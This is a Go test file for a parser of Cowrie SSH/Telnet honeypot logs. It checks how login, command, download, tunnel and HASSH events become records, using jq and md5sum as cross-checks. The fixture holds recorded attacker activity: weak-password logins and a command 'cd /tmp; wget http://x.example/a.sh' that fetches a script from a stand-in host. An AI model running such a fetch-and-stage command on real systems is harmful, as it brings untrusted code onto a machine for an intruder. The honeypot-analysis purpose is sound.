package parse

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
)

const cowrieSample = `{"eventid": "cowrie.session.connect", "src_ip": "177.138.38.27", "src_port": 45546, "timestamp": "2018-06-01T00:04:57.297757Z", "session": "7c45c7752419", "sensor": "s1"}
{"eventid": "cowrie.client.version", "version": "SSH-2.0-libssh2_1.7.0", "kexAlgs": ["a", "b"], "src_ip": "177.138.38.27", "timestamp": "2018-06-01T00:04:57.596943Z", "sensor": "s1"}
{"eventid": "cowrie.login.failed", "username": "matrix", "password": "123456", "timestamp": "2018-06-01T00:05:00.579453Z", "system": "SSHService 'ssh-userauth' on HoneyPotSSHTransport,8068,177.138.38.27", "src_ip": "177.138.38.27", "sensor": "s1"}
{"eventid": "cowrie.login.success", "username": "root", "password": "p\"w", "timestamp": "2018-06-01T00:05:01Z", "system": "CowrieTelnetTransport,1,177.138.38.27", "src_ip": "177.138.38.27", "sensor": "s1"}
{"eventid": "cowrie.command.input", "input": "cd /tmp; wget http://x.example/a.sh", "timestamp": "2018-06-01T00:05:02Z", "src_ip": "177.138.38.27", "sensor": "s1", "isError": 0}
{"eventid": "cowrie.session.file_download", "url": "http://x.example/a.sh", "shasum": "0b41", "timestamp": "2018-06-01T00:05:03Z", "src_ip": "177.138.38.27", "sensor": "s1"}
{"eventid": "cowrie.command.input", "input": "", "timestamp": "2018-06-01T00:05:04Z", "src_ip": "177.138.38.27"}
{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "2a00:1450:4001::1b", "dst_port": 587, "src_port": 22, "timestamp": "2018-06-01T00:05:05Z", "src_ip": "177.138.38.27", "sensor": "s1"}
{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mx.example", "dst_port": "25", "timestamp": "2018-06-01T00:05:06Z", "src_ip": "177.138.38.27", "sensor": "s1", "message": "a\tb"}
{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "mx.example", "dst_port": 0, "timestamp": "2018-06-01T00:05:07Z", "src_ip": "177.138.38.27", "sensor": "s1"}
{"eventid": "cowrie.login.failed", "username": "x", "password": "y", "timestamp": "yesterday", "src_ip": "177.138.38.27"}
{"eventid": "cowrie.login.failed", "username": 
`

// Logins, commands, downloads and client versions each give a record;
// a string with an escape takes the slow path to the same result.
func TestCowrieLines(t *testing.T) {
	out := parseText(t, "cowrie-json", []byte(cowrieSample))
	src := gotLogon{Client: "177.138.38.27", Target: "s1"}
	with := func(line int64, tm string, set func(*gotLogon)) gotLogon {
		l := src
		l.Line, l.Time = line, micro(tm)
		set(&l)
		return l
	}
	checkAt(t, out.logon, []gotLogon{
		with(2, "2018-06-01T00:04:57.596943Z", func(l *gotLogon) { l.Software = "SSH-2.0-libssh2_1.7.0" }),
		with(3, "2018-06-01T00:05:00.579453Z", func(l *gotLogon) {
			l.Account, l.Password, l.Auth, l.Result, l.Type = "matrix", "123456", "password", "failure", "ssh"
		}),
		with(4, "2018-06-01T00:05:01Z", func(l *gotLogon) {
			l.Account, l.Password, l.Auth, l.Result, l.Type = "root", `p"w`, "password", "success", "telnet"
		}),
		with(5, "2018-06-01T00:05:02Z", func(l *gotLogon) { l.Command = "cd /tmp; wget http://x.example/a.sh" }),
		with(6, "2018-06-01T00:05:03Z", func(l *gotLogon) { l.URL, l.Hash = "http://x.example/a.sh", "0b41" }),
		with(8, "2018-06-01T00:05:05Z", func(l *gotLogon) { l.URL = "tcp://[2a00:1450:4001::1b]:587" }),
		with(9, "2018-06-01T00:05:06Z", func(l *gotLogon) { l.URL = "tcp://mx.example:25" }),
	})
	if len(out.logon) != 7 { // not the empty command, nor the tunnel to port 0
		t.Errorf("%d records, want 7: %+v", len(out.logon), out.logon)
	}
	want := []string{"11 bad timestamp", "12 invalid JSON"}
	if got := out.skipList(); len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
		t.Errorf("skips %q, want %q", got, want)
	}
}

// On the samples, each kind of event is counted as jq counts it.
func TestCowrieSamples(t *testing.T) {
	for _, c := range []struct {
		file   string
		logins int64 // what jq is expected to count, to see the sample is the one meant
	}{
		{"honeypot/cowrie.json.2018-05-06", 4},
		{"honeypot/cowrie.json.2018-06-01", 207},
		{"honeypot/cowrie.json.2018-06-02", 181},
		{"honeypot/cowrie.json.2018-06-03", 150},
		{"honeypot/scriptzteam_cowrie.json", 143},
	} {
		t.Run(c.file, func(t *testing.T) {
			data := detectedSample(t, c.file, "cowrie-json")
			out := parseText(t, "cowrie-json", data)
			got := map[string]int64{}
			for _, r := range out.logon {
				got[cowrieEvent(r)]++
				if r.Client == "" || r.Target == "" {
					t.Fatalf("record %+v", r)
				}
			}
			for _, ev := range cowrieEvents {
				want := toolCount(t, data, "jq", "-nR", `[inputs | fromjson? | select(.eventid == "`+ev+`" and (.input // "x") != "")] | length`)
				if got[ev] != want {
					t.Errorf("%s: %d, jq counts %d", ev, got[ev], want)
				}
			}
			if n := got["cowrie.login.success"] + got["cowrie.login.failed"]; n != c.logins {
				t.Errorf("%d logins, want %d", n, c.logins)
			}
			// scriptzteam's last line is cut short.
			if bad := toolCount(t, data, "jq", "-nR", `[inputs | try fromjson catch "bad" | select(. == "bad")] | length`); int64(len(out.skips)) != bad {
				t.Errorf("skips %q, jq finds %d lines that are not JSON", out.skipList(), bad)
			}
		})
	}
}

// cowrieEvents are the Cowrie events that give a record.
var cowrieEvents = []string{"cowrie.login.success", "cowrie.login.failed", "cowrie.command.input", "cowrie.session.file_download",
	"cowrie.client.version", "cowrie.direct-tcpip.request"}

// cowrieEvent is the Cowrie event a record stands for.
func cowrieEvent(r gotLogon) string {
	switch {
	case r.Result == "success":
		return "cowrie.login.success"
	case r.Result == "failure":
		return "cowrie.login.failed"
	case r.Command != "":
		return "cowrie.command.input"
	case strings.HasPrefix(r.URL, "tcp://"):
		return "cowrie.direct-tcpip.request"
	case r.URL != "":
		return "cowrie.session.file_download"
	case r.Software != "":
		return "cowrie.client.version"
	}
	return "none"
}

// A line whose strings are plain is read without allocating.
func TestCowrieNoAllocs(t *testing.T) {
	lines := bytes.Split([]byte(cowrieSample), []byte("\n"))[:8]
	lines = append(lines[:3], lines[4:]...) // line 4 has an escape: the slow path
	noAllocs(t, &cowrieParser{}, lines)
}

// An SSH client's HASSH: Cowrie's own (cowrie.client.kex) or, in the older
// logs that have only the offered algorithms with the version, the MD5 of
// the four lists joined by semicolons; jq joins them and md5sum hashes
// them for the check. A client whose version event has no lists has none.
func TestCowrieHASSH(t *testing.T) {
	data := detectedSample(t, "honeypot/scriptzteam_cowrie.json", "cowrie-json")
	out := parseText(t, "cowrie-json", data)
	got := map[string]int{}
	n := 0
	for _, r := range out.logon {
		if r.HASSH != "" {
			got[r.HASSH]++
			n++
		}
	}
	top := toolOutput(t, data, "sh", "-c", `jq -r 'select(.eventid == "cowrie.client.version" and .kexAlgs != null) |
		[(.kexAlgs | join(",")), (.encCS | join(",")), (.macCS | join(",")), (.compCS | join(","))] | join(";")' 2>/dev/null |
		sort | uniq -c | sort -rn | head -3 | while read n l; do printf '%s %s\n' "$(printf '%s' "$l" | md5sum | cut -c1-32)" "$n"; done`)
	lines := strings.Split(strings.TrimSpace(string(top)), "\n")
	if len(lines) != 3 || n != 166 {
		t.Fatalf("%d events with a HASSH (jq: 166), md5sum's top 3: %q", n, lines)
	}
	for _, l := range lines {
		h, count, _ := strings.Cut(l, " ")
		if strconv.Itoa(got[h]) != count {
			t.Errorf("HASSH %s: %d events, md5sum of jq's lists counts %s", h, got[h], count)
		}
	}
	// Cowrie's own, from a kex event.
	kex := `{"eventid":"cowrie.client.kex","hassh":"ec7378c1a92f5a8dde7e8b7a1ddf33d1","hasshAlgorithms":"x;y;z;none",` +
		`"kexAlgs":["x"],"encCS":["y"],"macCS":["z"],"compCS":["none"],"src_ip":"10.0.0.9","sensor":"s1","timestamp":"2024-01-02T03:04:05.000000Z"}`
	if k := parseText(t, "cowrie-json", []byte(kex+"\n")); len(k.logon) != 1 || k.logon[0].HASSH != "ec7378c1a92f5a8dde7e8b7a1ddf33d1" {
		t.Errorf("a kex event gave %+v", k.logon)
	}
}
